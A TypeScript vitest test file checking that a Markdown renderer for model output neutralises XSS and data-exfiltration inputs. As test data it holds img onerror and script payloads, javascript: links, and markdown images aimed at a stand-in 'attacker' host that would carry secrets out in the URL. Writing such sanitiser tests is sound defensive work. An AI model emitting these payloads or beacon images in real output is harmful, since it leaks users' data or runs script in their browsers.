import { renderToString } from 'react-dom/server';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './MarkdownRendered';

const render = (text: string) => renderToString(<Markdown>{text}</Markdown>);

/** Every opening tag of the HTML, as `<name attr=…>`. */
const tags = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? [];

describe('markdown from a model', () => {
  it('shows raw HTML as text: no img tag, no event handler attribute', () => {
    const html = render('Look: <img src=x onerror=alert(1)>');
    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
    expect(tags(html).some((tag) => /\son\w+=/i.test(tag))).toBe(false);
    expect(html).toContain('&lt;img');
  });

  it('never emits a script element', () => {
    const html = render(
      '<script>alert(1)</script>\n\n<script src="https://attacker/x.js"></script>',
    );
    expect(tags(html).some((tag) => /^<script/i.test(tag))).toBe(false);
  });

  it('drops javascript: links and keeps their text', () => {
    const html = render('[click me](javascript:alert(1)) and [x](JaVaScRiPt:alert(2))');
    expect(html).not.toMatch(/href="\s*javascript:/i);
    expect(tags(html).some((tag) => /^<a\s/i.test(tag))).toBe(false);
    expect(html).toContain('click me');
  });

  it('never fetches a remote image: it becomes a link that opens it in a new tab', () => {
    const html = render('![chart](https://attacker/?q=secret)');
    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
    expect(html).not.toMatch(/src="https?:/i);
    const link = tags(html).find((tag) => /^<a\s/i.test(tag)) ?? '';
    expect(link).toContain('href="https://attacker/?q=secret"');
    expect(link).toContain('target="_blank"');
    expect(link).toMatch(/rel="noopener noreferrer/);
    expect(html).toContain('>Image &quot;chart&quot;</a>');
    expect(html).toContain('(https://attacker/?q=secret)');
  });

  it('a reference-style image becomes a link to its definition, never an img', () => {
    const html = render('See ![pixel][p]\n\n[p]: https://attacker/p.png');
    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
    expect(html).toMatch(/<a[^>]*href="https:\/\/attacker\/p.png"[^>]*target="_blank"/);
    expect(html).toContain('Image &quot;pixel&quot;');
  });

  it('an image inside a link becomes text naming its URL: one link, no img', () => {
    const html = render('[![logo](https://attacker/l.png)](https://example.com/)');
    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
    expect(tags(html).filter((tag) => /^<a\s/i.test(tag))).toHaveLength(1);
    expect(html).toContain('Image &quot;logo&quot; (https://attacker/l.png)');
  });

  it('an image with a javascript: source becomes no link and runs nothing', () => {
    const html = render('![x](javascript:alert(1))');
    expect(html).not.toMatch(/javascript:/i);
    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
  });

  describe('on the page of the app', () => {
    afterEach(() => {
      vi.unstubAllGlobals();
    });

    it('never fetches a same-origin or relative image either (it could carry data to the host)', () => {
      const origin = 'http://127.0.0.1:4173';
      vi.stubGlobal('window', { location: { href: `${origin}/#/inspect`, origin } });
      for (const src of ['/anything?d=secret', `${origin}/mock/v1?d=secret`, 'pixel.png?d=1']) {
        const html = render(`![beacon](${src})`);
        expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
        expect(html).toContain('>Image &quot;beacon&quot;</a>');
      }
    });
  });

  it('never fetches a protocol-relative image either', () => {
    const html = render('![x](//attacker/?q=secret)');
    expect(html).not.toMatch(/<img/i);
  });

  it('shows data: images, which load nothing remote', () => {
    const html = render('![dot](data:image/png;base64,iVBORw0KGgo=)');
    expect(html).toMatch(/<img[^>]*src="data:image\/png;base64,iVBORw0KGgo="/);
    expect(render('![b](blob:http://127.0.0.1/0f2a)')).toMatch(/<img[^>]*src="blob:/);
  });

  it('opens links in a new tab without referrer and shows the full URL', () => {
    const html = render('[docs](https://example.com/a?b=c)');
    expect(html).toMatch(/<a[^>]*href="https:\/\/example.com\/a\?b=c"/);
    expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
    expect(html).toMatch(/target="_blank"/);
    expect(html).toContain('(https://example.com/a?b=c)');
  });

  it('renders GitHub-flavoured markdown (tables, lists, emphasis)', () => {
    const html = render('**bold**\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toMatch(/<li>a<\/li>/);
    expect(html).toMatch(/<table/);
  });
});
